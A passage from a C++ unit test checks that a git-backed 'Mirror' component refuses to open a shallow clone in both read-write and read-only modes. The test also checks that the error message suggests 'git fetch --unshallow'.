    apply(mirror, snapshot("a1"), info(kTask, "1"));
    apply(mirror, snapshot("a2"), info(kTask, "2"));
  }
  const auto clone = m_dir / "shallow";
  ASSERT_EQ(test::run_process({"git", "clone", "-q", "--depth", "1", "file://" + repo(), clone.string()}).exit_code, 0);
  m_settings.path = clone;
  for (const auto access : {Mirror::Access::read_write, Mirror::Access::read_only}) {
    auto opened = Mirror::open(m_settings, access);
    ASSERT_FALSE(opened.ok());
    EXPECT_NE(opened.error().message.find("repository " + clone.string() + ": is a shallow clone"), std::string::npos)
        << opened.error().message;
    EXPECT_NE(opened.error().message.find("git -C " + clone.string() + " fetch --unshallow"), std::string::npos)
        << opened.error().message;
  }
}
